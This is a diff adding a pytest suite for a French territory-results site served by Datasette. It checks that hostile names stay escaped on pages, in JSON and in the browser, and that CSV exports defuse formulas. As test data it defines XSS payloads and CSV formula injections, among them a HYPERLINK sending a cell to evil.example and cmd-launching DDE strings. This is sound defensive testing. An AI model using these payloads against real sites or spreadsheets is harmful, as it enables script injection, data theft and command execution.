@@ -1,0 +1,252 @@
+"""Dangerous text stays inert: HTML and script in names are escaped on every page, in the JSON, in the browser
+(search suggestions, map popups, territory page), and a cell that starts like a formula cannot run in the Excel CSV.
+
+The site is served from a database built from a copy of the fixture package with hostile names.
+"""
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import shutil
+import socket
+import subprocess
+import sys
+import time
+import urllib.request
+from pathlib import Path
+
+import pytest
+from markupsafe import escape
+
+from tnl.build import build, metadata_path
+
+from conftest import DATA, FIXTURE_PACKAGE, _setting
+
+SCRIPT = "<script>alert(1)</script>"
+IMG = "<img src=x onerror=alert(2)>"
+ATTRIBUTE = '"><svg onload=alert(3)>'
+CLOSE_SCRIPT = "</script><script>alert(4)</script>"
+BOLD = "<b onmouseover=alert(5)>mention</b>"
+PAYLOADS = [SCRIPT, IMG, ATTRIBUTE, CLOSE_SCRIPT, BOLD]
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"clic")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]
+
+HOSTILE_CELLS = [
+    # (file, line, column, value)
+    ("territories.csv", 10, "name", SCRIPT),  # Échirolles, 213801517: distinguished in 2023 and 2025
+    ("territories.csv", 9, "name", ATTRIBUTE),  # Lettret, 210500740
+    ("territories.csv", 9, "note", CLOSE_SCRIPT),
+    ("results.csv", 4, "name_as_published", IMG),  # 2025, Échirolles
+    ("results.csv", 4, "note", CLOSE_SCRIPT),
+    ("results.csv", 2, "name_as_published", FORMULAS[0]),  # 2023, Lettret
+    ("results.csv", 2, "match_note", FORMULAS[1]),
+    ("results.csv", 2, "note", FORMULAS[3]),
+    ("results.csv", 3, "note", FORMULAS[2]),
+    ("mentions.csv", 2, "mention", BOLD),
+]
+
+
+def set_cell(path: Path, line: int, column: str, value: str) -> None:
+    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
+    rows[line - 1][rows[0].index(column)] = value
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n").writerows(rows)
+    path.write_text(out.getvalue(), encoding="utf-8")
+
+
+@pytest.fixture(scope="module")
+def hostile_db(tmp_path_factory) -> Path:
+    data = tmp_path_factory.mktemp("hostile") / "data"
+    shutil.copytree(FIXTURE_PACKAGE, data)
+    shutil.copy(DATA / "datapackage.yaml", data)
+    for file, line, column, value in HOSTILE_CELLS:
+        set_cell(data / file, line, column, value)
+    return build(data, tmp_path_factory.mktemp("hostile-site") / "tnl.db")
+
+
+@pytest.fixture(scope="module")
+def hostile(hostile_db):
+    """Datasette configured as `tnl serve` configures it, on the hostile database (in-process test client)."""
+    from datasette.app import Datasette
+
+    from tnl.serve import ROOT, SETTINGS
+
+    return Datasette(
+        immutables=[str(hostile_db)],
+        metadata=json.loads(metadata_path(hostile_db).read_text(encoding="utf-8")),
+        plugins_dir=str(ROOT / "plugins"), template_dir=str(ROOT / "templates"),
+        static_mounts=[("static", str(ROOT / "static"))],
+        settings={name: _setting(value) for name, value in SETTINGS.items()}, cors=True,
+    )
+
+
+@pytest.fixture(scope="module")
+def hostile_server(hostile_db):
+    """A real `tnl serve` of the hostile database on a free loopback port, for Chromium."""
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    process = subprocess.Popen([sys.executable, "-m", "tnl.cli", "serve", "--db", str(hostile_db), "--port", str(port)],
+                               stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    url = f"http://127.0.0.1:{port}"
+    for _ in range(100):
+        try:
+            urllib.request.urlopen(url + "/-/versions.json", timeout=1)
+            break
+        except OSError:
+            time.sleep(0.1)
+    else:
+        process.kill()
+        raise RuntimeError(process.stderr.read().decode())
+    yield url
+    process.terminate()
+    process.wait(timeout=10)
+
+
+def test_the_hostile_text_is_in_the_database(hostile_db):
+    import sqlite3
+
+    with sqlite3.connect(hostile_db) as conn:
+        assert conn.execute("select name from territories where id = '213801517'").fetchone() == (SCRIPT,)
+        assert conn.execute("select name_as_published from results where edition = 2025 and territory_id = '213801517'").fetchone() == (IMG,)
+
+
+HTML_PAGES = [
+    ("/", [SCRIPT]),
+    ("/tnl/territories", [SCRIPT, ATTRIBUTE, CLOSE_SCRIPT]),
+    ("/tnl/territories?_search=script", [SCRIPT]),
+    ("/tnl/territories?_facet=name", [SCRIPT, ATTRIBUTE]),
+    ("/tnl/territories/213801517", [SCRIPT]),
+    ("/tnl/territories/210500740", [ATTRIBUTE, CLOSE_SCRIPT]),
+    ("/tnl/results", [IMG, CLOSE_SCRIPT]),
+    ("/tnl/results/2025,213801517", [IMG, CLOSE_SCRIPT]),
+    ("/tnl/results_map", [SCRIPT, IMG]),
+    ("/tnl/labelled_territories", [SCRIPT]),
+    ("/tnl/territory_history", [SCRIPT]),
+    ("/tnl/mentions", [BOLD]),
+    ("/tnl/mentions?_facet=mention", [BOLD]),
+    ("/tnl/palmares?edition=2025", [SCRIPT, IMG]),
+    ("/tnl/palmares?edition=2023", [SCRIPT, ATTRIBUTE]),
+    ("/tnl/nouveaux_laureats?edition=2023", [SCRIPT, ATTRIBUTE]),
+    ("/tnl/derniere_distinction", [SCRIPT]),
+    ("/tnl/derniers_resultats", [SCRIPT]),
+    ("/tnl?sql=select+name,+note+from+territories", [SCRIPT, ATTRIBUTE, CLOSE_SCRIPT]),
+    ("/territoire/213801517", [SCRIPT, IMG, BOLD]),
+    ("/territoire/210500740", [ATTRIBUTE, CLOSE_SCRIPT]),
+    ("/territoire/213801855", []),  # Grenoble: Échirolles among its peers (on the map, from the JSON)
+]
+
+
+@pytest.mark.parametrize("path, shown", HTML_PAGES, ids=[p for p, _ in HTML_PAGES])
+async def test_html_pages_escape_names(hostile, path, shown):
+    response = await hostile.client.get(path)
+    assert response.status_code == 200, response.text[:300]
+    assert response.headers["content-type"].startswith("text/html")
+    html = response.text
+    for payload in PAYLOADS:
+        assert payload not in html, f"{path}: raw {payload!r}"
+    for payload in shown:
+        assert str(escape(payload)) in html, f"{path}: {payload!r} should be shown, escaped"
+
+
+async def test_the_atom_feed_escapes_names(hostile):
+    response = await hostile.client.get("/tnl/derniers_resultats.atom")
+    assert response.status_code == 200
+    assert not any(payload in response.text for payload in PAYLOADS)
+
+
+async def test_territory_json_carries_the_text_as_data(hostile):
+    response = await hostile.client.get("/territoire/213801517.json")
+    assert response.status_code == 200
+    assert response.headers["content-type"].startswith("application/json")
+    assert response.headers["x-content-type-options"] == "nosniff"
+    data = response.json()
+    assert data["territory"]["name"] == SCRIPT
+    assert IMG in [row["name_as_published"] for row in data["history"]]
+    assert BOLD in [row["mention"] for row in data["mentions"]]
+
+
+async def test_search_suggestions_json_carries_the_text_as_data(hostile):
+    response = await hostile.client.get("/-/recherche.json", params={"q": "script"})
+    assert response.status_code == 200
+    assert response.headers["content-type"].startswith("application/json")
+    first = response.json()[0]
+    assert (first["id"], first["nom"], first["label"]) == ("213801517", SCRIPT, f"{SCRIPT} (38)")
+
+
+@pytest.mark.parametrize("path", ["/tnl/results.csvfr", "/tnl/palmares.csvfr?edition=2023", "/tnl/results_map.csvfr"])
+async def test_excel_csv_defuses_formulas(hostile, path):
+    response = await hostile.client.get(path)
+    assert response.status_code == 200
+    cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";") for c in row]
+    assert cells
+    for cell in cells:
+        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+            assert re.fullmatch(r"-[0-9]+(,[0-9]+)?([eE][-+]?[0-9]+)?", cell), f"{path}: {cell!r} would run as a formula"
+    defused = {cell for cell in cells if cell.startswith("'")}
+    expected = {"'" + f for f in FORMULAS if f in _source_cells(path)}
+    assert expected and expected <= defused
+
+
+def _source_cells(path: str) -> set[str]:
+    """Which formulas each export shows (palmares and results_map have no notes)."""
+    if path.startswith("/tnl/results.csvfr"):
+        return set(FORMULAS)
+    return {FORMULAS[0]}
+
+
+# --- in a real browser ----------------------------------------------------------------------------------------------
+
+def watch(page) -> list:
+    """Dialogs (alert) and page errors: any of them means a payload ran."""
+    fired = []
+    page.on("dialog", lambda dialog: (fired.append(dialog.message), dialog.dismiss()))
+    page.on("pageerror", lambda error: fired.append(f"error: {error}"))
+    return fired
+
+
+def test_search_suggestions_render_names_as_text(hostile_server, page):
+    fired = watch(page)
+    page.goto(hostile_server + "/")
+    page.fill("#recherche-territoire", "script")
+    item = page.locator(".suggestions li a").first
+    item.wait_for()
+    assert SCRIPT in item.inner_text()
+    assert page.locator(".suggestions script, .suggestions img, .suggestions svg, .suggestions b").count() == 0
+    page.fill("#recherche-territoire", "svg onload")  # the attribute-breaking name
+    page.wait_for_function("() => document.querySelector('.suggestions').innerText.includes('svg onload')")
+    assert page.locator(".suggestions svg, .suggestions img").count() == 0
+    page.wait_for_timeout(300)
+    assert fired == []
+
+
+def test_map_popup_renders_names_as_text(hostile_server, page):
+    fired = watch(page)
+    page.goto(hostile_server + "/tnl/labelled_territories?id=213801517")
+    page.wait_for_selector(".leaflet-marker-pane .md-marker")
+    page.click(".md-marker")
+    popup = page.locator(".leaflet-popup-content")
+    popup.wait_for()
+    assert SCRIPT in popup.inner_text()
+    assert popup.locator("script, img, svg").count() == 0
+    page.goto(hostile_server + "/tnl/results_map?edition=2025&territory_id=213801517")
+    page.wait_for_selector(".leaflet-marker-pane .md-marker")
+    page.click(".md-marker")
+    popup = page.locator(".leaflet-popup-content")
+    popup.wait_for()
+    assert SCRIPT in popup.inner_text()
+    assert popup.locator("script, img, svg").count() == 0
+    page.wait_for_timeout(300)
+    assert fired == []
+
+
+def test_territory_page_renders_names_as_text(hostile_server, page):
+    fired = watch(page)
+    page.goto(hostile_server + "/territoire/213801517")
+    assert page.inner_text("h1") == SCRIPT
+    assert page.title().startswith(SCRIPT)
+    page.wait_for_selector("#carte-pairs[data-state=ready]", state="attached", timeout=15_000)
+    assert page.locator("main img[src=x], .territoire img[src=x], .territoire svg[onload]").count() == 0
+    page.wait_for_timeout(300)
+    assert fired == []
